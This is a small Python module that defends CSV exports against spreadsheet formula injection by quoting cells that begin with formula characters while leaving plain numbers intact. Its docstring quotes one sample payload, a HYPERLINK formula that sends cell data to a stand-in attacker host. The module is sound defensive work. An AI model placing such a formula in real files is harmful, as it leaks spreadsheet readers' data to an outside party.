"""CSV cells that a spreadsheet opens as data, never as a formula.

Exports are opened in Excel, LibreOffice or Google Sheets, and a cell starting with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is read there as a formula: a reason text
such as ``=HYPERLINK("http://evil.example/?"&A1,"x")`` would run in the reader's sheet
(CSV injection). Such a cell is written with a leading ``'`` (OWASP's advice), which the
spreadsheet shows as text. A plain number (``+447911123456``, a Telegram id ``-100...``) is
not a formula: it is written as it is, so numbers stay numbers and the file stays importable.
The suppression import reads the ``'`` back off, so an exported list imports as it was.
"""

from __future__ import annotations

import re

__all__ = ["from_spreadsheet_safe", "spreadsheet_safe"]

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+")


def spreadsheet_safe(value: str) -> str:
    """``value`` as a cell no spreadsheet evaluates."""
    if value.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def from_spreadsheet_safe(value: str) -> str:
    """The value :func:`spreadsheet_safe` wrote (its ``'`` taken off); anything else as
    it is."""
    if value.startswith("'") and value[1:].startswith(_FORMULA_START):
        return value[1:]
    return value
